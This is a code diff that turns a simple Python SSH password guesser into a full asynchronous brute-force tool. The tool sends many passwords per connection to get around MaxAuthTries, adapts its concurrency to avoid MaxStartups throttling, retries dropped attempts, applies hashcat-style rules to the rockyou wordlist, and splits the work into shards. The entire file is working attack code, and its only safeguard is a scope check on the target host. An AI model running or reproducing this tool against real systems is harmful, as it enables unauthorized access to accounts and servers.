@@ -1,38 +1,246 @@
+import argparse
+import os
 import sys
 import asyncio
+import time
 import asyncssh
-import aiofiles
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from util.concurrency import AIMD, AsyncGate, Backoff, is_fatal, is_throttle
+from util.rules import RuleError, apply_rules, load_rules
+from util.scope import add_scope_arguments, scope_from_args
+from util.stats import Latency, Throughput
+from util.wordlist import iter_wordlist
+from util.wordlist_index import add_slice_arguments, slice_from_args
 
 """
-pip3 install asyncio asyncssh aiofiles
+python3 attacks/async_ssh_bruteforce.py root 10.10.10.10 --rules best64.rule
+python3 attacks/async_ssh_bruteforce.py root 10.10.10.10 --shard 0/4
+
+One producer reads the wordlist into a bounded queue, N consumers each hold an
+SSH connection and keep feeding it passwords until the server hangs up
+(several attempts per connection, see MaxAuthTries). The first success stops
+everything.
+
+-c is only the ceiling: an AIMD gate decides how many consumers are connected
+at once, growing while handshakes succeed and halving on resets, banner
+timeouts and MaxStartups refusals. Attempts lost that way are retried.
+
+pip3 install asyncio asyncssh
 """
 
-async def ssh_attempt(semaphore, user, host, password):
-    async with semaphore:
-        try:
-            async with asyncssh.connect(host, username=user, password=password) as conn:
-                print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
-                sys.exit(0)
-        except Exception as e:
-            print(f"[-] Authentication failed {user} : {password}")
-
-async def main():
-    if len(sys.argv) != 3:
-        print("Usage: python async_ssh_bruteforce.py <user> <host>")
-        return
-
-    user = sys.argv[1]
-    host = sys.argv[2]
-    CONCURRENCY_LIMIT = 100
-  
-    semaphore = asyncio.Semaphore(CONCURRENCY_LIMIT)
-    
-    password_list="/usr/share/wordlists/rockyou.txt"
-
-    async with aiofiles.open(password_list, mode="r", encoding='latin-1') as f:
-        async for line in f:
-            password = line.strip()
-            await ssh_attempt(semaphore, user, host, password)
+
+def is_max_auth_tries(error):
+    """OpenSSH's disconnect at MaxAuthTries, sent instead of rejecting the last password."""
+    return (
+        isinstance(error, asyncssh.DisconnectError)
+        and not isinstance(error, asyncssh.ConnectionLost)
+        and "too many authentication failures" in error.reason.lower()
+    )
+
+
+class PasswordClient(asyncssh.SSHClient):
+    """Hands asyncssh the next candidate every time the server asks for a password."""
+
+    def __init__(self, consumer):
+        self.consumer = consumer
+
+    async def password_auth_requested(self):
+        return await self.consumer.next_password()
+
+
+class Consumer:
+    def __init__(self, user, host, port, attempts, stop, stats, latency, gate, timeout=10):
+        self.user = user
+        self.host = host
+        self.port = port
+        self.attempts = attempts
+        self.stop = stop
+        self.stats = stats
+        self.latency = latency
+        self.gate = gate
+        self.timeout = timeout
+        self.current = None  # candidate the server is checking right now
+        self.sent = 0.0
+        self.retry = []
+        self.exhausted = False
+        self.answered = False  # the current connection got through the handshake
+        self.rejected = 0  # passwords the current connection rejected
+
+    async def handshake_done(self):
+        # counted once per connection, however many passwords it tests
+        if not self.answered:
+            self.answered = True
+            await self.gate.success()
+
+    async def failed(self):
+        await self.handshake_done()
+        self.latency.add(time.monotonic() - self.sent)
+        self.stats.add()
+        print(f"[-] Authentication failed {self.user} : {self.current}")
+        self.current = None
+        self.rejected += 1
+
+    async def next_password(self):
+        # the server only asks once the handshake is through
+        await self.handshake_done()
+        # being asked again means the previous candidate was rejected
+        if self.current is not None:
+            await self.failed()
+        password = self.retry.pop() if self.retry else await self.attempts.get()
+        if password is None:
+            self.exhausted = True
+            return None
+        self.current = password
+        self.sent = time.monotonic()
+        return password
+
+    async def run(self, max_failures=10):
+        backoff = Backoff(self.gate, max_failures)
+        while not self.stop.is_set() and not self.exhausted:
+            self.answered, self.rejected = False, 0
+            try:
+                async with self.gate:
+                    conn = await self.connect()
+            except asyncssh.PermissionDenied:
+                # the server ran out of patience (MaxAuthTries) after rejecting
+                # the last candidate, or we ran out of candidates
+                if self.current is not None:
+                    await self.failed()
+                backoff.reset()
+                continue
+            except (asyncssh.Error, OSError, asyncio.TimeoutError) as e:
+                if self.answered and is_max_auth_tries(e):
+                    # the candidate in flight was rejected
+                    if self.current is not None:
+                        await self.failed()
+                    backoff.reset()
+                    continue
+                if is_fatal(e):
+                    print(f"[-] {self.host} refused the connection, stopping: {e}")
+                    self.stop.set()
+                    return None
+                # any other drop, timeout or reset left the candidate in flight
+                # untested: retry it on a fresh connection
+                if self.current is not None:
+                    self.retry.append(self.current)
+                    self.current = None
+                if self.rejected:
+                    # the connection tested passwords before it went, nothing is wrong
+                    backoff.reset()
+                    continue
+                # only drops before the handshake say anything about load
+                throttled = not self.answered and is_throttle(e)
+                if throttled:
+                    await self.gate.throttled()
+                if backoff.failed(throttled):
+                    print(f"[-] {backoff.failures} connections in a row failed ({e.__class__.__name__}), giving up")
+                    self.stop.set()
+                    return None
+                await asyncio.sleep(backoff.delay())
+                continue
+
+            conn.close()
+            await self.handshake_done()
+            password, self.current = self.current, None
+            self.stats.add()
+            print(f"[+] Successful login to {self.host}  \nuser: {self.user}  \npassword: {password}")
+            self.stop.set()
+            return password
+        return None
+
+    async def connect(self):
+        return await asyncssh.connect(
+            self.host,
+            port=self.port,
+            username=self.user,
+            known_hosts=None,
+            preferred_auth="password",
+            client_factory=lambda: PasswordClient(self),
+            connect_timeout=self.timeout,
+            login_timeout=self.timeout * 3,
+        )
+
+
+async def produce(attempts, passwords, consumers, stop):
+    for _, password in passwords:
+        if stop.is_set():
+            return
+        await attempts.put(password)
+    for _ in range(consumers):
+        await attempts.put(None)
+
+
+async def report(stats, latency, gate, interval=1.0):
+    while True:
+        await asyncio.sleep(interval)
+        print(
+            f"[+] {stats.tick():.1f} attempts/s, {stats.count} tried, "
+            f"concurrency {gate.limit}, latency {latency.summary()}"
+        )
+
+
+async def main(user, host, port, password_list, rules, concurrency, start_offset=0, end_offset=None):
+    words = iter_wordlist(password_list, start_offset, end_offset)
+    attempts = asyncio.Queue(maxsize=concurrency * 2)
+    stop = asyncio.Event()
+    stats = Throughput()
+    latency = Latency()
+
+    # concurrency is the ceiling, the gate starts low and finds the sustainable rate
+    gate = AsyncGate(AIMD(initial=min(4, concurrency), maximum=concurrency))
+    consumers = [
+        Consumer(user, host, port, attempts, stop, stats, latency, gate)
+        for _ in range(concurrency)
+    ]
+    tasks = [asyncio.create_task(consumer.run()) for consumer in consumers]
+    producer = asyncio.create_task(produce(attempts, apply_rules(words, rules), concurrency, stop))
+    reporter = asyncio.create_task(report(stats, latency, gate))
+    stopped = asyncio.create_task(stop.wait())
+    finished = asyncio.gather(*tasks, return_exceptions=True)
+    try:
+        # done when every consumer ran out of candidates, or as soon as one succeeds
+        await asyncio.wait([finished, stopped], return_when=asyncio.FIRST_COMPLETED)
+    finally:
+        for task in tasks + [producer, reporter, stopped]:
+            task.cancel()
+        await asyncio.gather(*tasks, producer, reporter, stopped, return_exceptions=True)
+
+    print(f"[+] {stats.summary()}")
+    print(f"[+] latency {latency.summary()}")
+    print(f"[+] Final concurrency {gate.limit}, throttled {gate.controller.throttles} times")
+
 
 if __name__ == "__main__":
-    asyncio.run(main())
+    parser = argparse.ArgumentParser(description="Async SSH password bruteforce")
+    parser.add_argument("user")
+    parser.add_argument("host")
+    parser.add_argument("-p", "--port", type=int, default=22)
+    parser.add_argument(
+        "-w", "--wordlist", default="/usr/share/wordlists/rockyou.txt", help="Password wordlist"
+    )
+    parser.add_argument("--rules", help="Hashcat-style rules file applied to every word")
+    parser.add_argument(
+        "-c",
+        "--concurrency",
+        type=int,
+        default=10,
+        help="Most connections held open at once, keep it at or below the server's MaxStartups",
+    )
+    add_slice_arguments(parser)
+    add_scope_arguments(parser)
+    args = parser.parse_args()
+    # the one host every attempt connects to
+    if not scope_from_args(args, default=[args.host]).allows_host(args.host):
+        parser.error(f"{args.host} is out of scope")
+    try:
+        rules = load_rules(args.rules) if args.rules else []
+    except (OSError, RuleError) as e:
+        parser.error(str(e))
+    start, end = slice_from_args(args, args.wordlist)
+    try:
+        asyncio.run(
+            main(args.user, args.host, args.port, args.wordlist, rules, args.concurrency, start, end)
+        )
+    except KeyboardInterrupt:
+        print("[-] Interrupted")